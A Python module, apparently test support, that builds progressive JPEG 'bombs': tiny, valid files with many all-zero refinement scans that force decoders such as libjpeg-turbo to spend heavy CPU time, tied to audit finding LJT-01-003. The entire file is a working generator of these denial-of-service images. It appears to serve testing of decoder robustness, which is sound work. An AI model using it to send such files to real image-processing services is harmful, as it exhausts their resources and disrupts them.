"""Progressive JPEGs written byte by byte: any size and number of scans in milliseconds.

Every coefficient is zero, so a scan is a handful of end-of-band runs however large the
picture: cheap to send, costly to decode, since a refinement scan still visits all 63
coefficients of every block (libjpeg-turbo's LJT-01-003). The first AC scan approximates
(Al=1) and every later one refines (Ah=1): libjpeg warns that the progression is odd and
decodes on, as it does for the attack files.
"""

from __future__ import annotations

import struct

from PIL import Image

# EOBr codes a run of 2**r + (r extra bits) blocks; r = 14 is the longest.
_LONGEST_RUN = 2**15 - 1


def progressive_jpeg(width: int, height: int, scans: int) -> bytes:
    """A greyscale progressive JPEG of `scans` scans: one DC scan, then AC scans."""
    blocks = -(-width // 8) * -(-height // 8)
    out = bytearray(b"\xff\xd8")
    out += _segment(0xDB, b"\x00" + b"\x01" * 64)  # quantization: all ones
    out += _segment(0xC2, struct.pack(">BHHB", 8, height, width, 1) + b"\x01\x11\x00")
    out += _huffman(0x00, {1: [0x00]})  # DC: "0" is a difference of 0
    out += _huffman(0x10, {4: [run << 4 for run in range(15)]})  # AC: EOB0..EOB14
    # The DC scan: one "0" bit per block, padded with ones.
    out += _segment(0xDA, b"\x01\x01\x00\x00\x00\x00")
    out += b"\x00" * (blocks // 8)
    if blocks % 8:
        out.append((1 << (8 - blocks % 8)) - 1)
    runs = _end_of_band_runs(blocks)
    for scan in range(scans - 1):
        successive = b"\x01" if scan == 0 else b"\x10"  # Ah/Al: approximate, then refine
        out += _segment(0xDA, b"\x01\x01\x00\x01\x3f" + successive) + runs
    return bytes(out + b"\xff\xd9")


def decodes(data: bytes) -> bool:
    """The file is a JPEG Pillow reads to the end (the bombs are valid files)."""
    import io

    image = Image.open(io.BytesIO(data))
    image.draft(None, (64, 64))
    image.load()
    return image.format == "JPEG"


def _end_of_band_runs(blocks: int) -> bytes:
    bits = _Bits()
    while blocks:
        run = min(blocks, _LONGEST_RUN)
        size = run.bit_length() - 1
        bits.put(size, 4)  # the code of EOB<size> is its index on 4 bits
        bits.put(run - (1 << size), size)
        blocks -= run
    return bits.flushed()


def _segment(marker: int, body: bytes) -> bytes:
    return struct.pack(">BBH", 0xFF, marker, len(body) + 2) + body


def _huffman(table: int, symbols_by_length: dict[int, list[int]]) -> bytes:
    counts = bytes(len(symbols_by_length.get(length, [])) for length in range(1, 17))
    symbols = bytes(s for length in range(1, 17) for s in symbols_by_length.get(length, []))
    return _segment(0xC4, bytes([table]) + counts + symbols)


class _Bits:
    def __init__(self) -> None:
        self.out = bytearray()
        self.value = 0
        self.count = 0

    def put(self, value: int, length: int) -> None:
        for shift in range(length - 1, -1, -1):
            self.value = self.value << 1 | (value >> shift) & 1
            self.count += 1
            if self.count == 8:
                self.out.append(self.value)
                if self.value == 0xFF:
                    self.out.append(0x00)  # stuffed, or it would read as a marker
                self.value = self.count = 0

    def flushed(self) -> bytes:
        if self.count:
            self.put((1 << (8 - self.count)) - 1, 8 - self.count)
        return bytes(self.out)
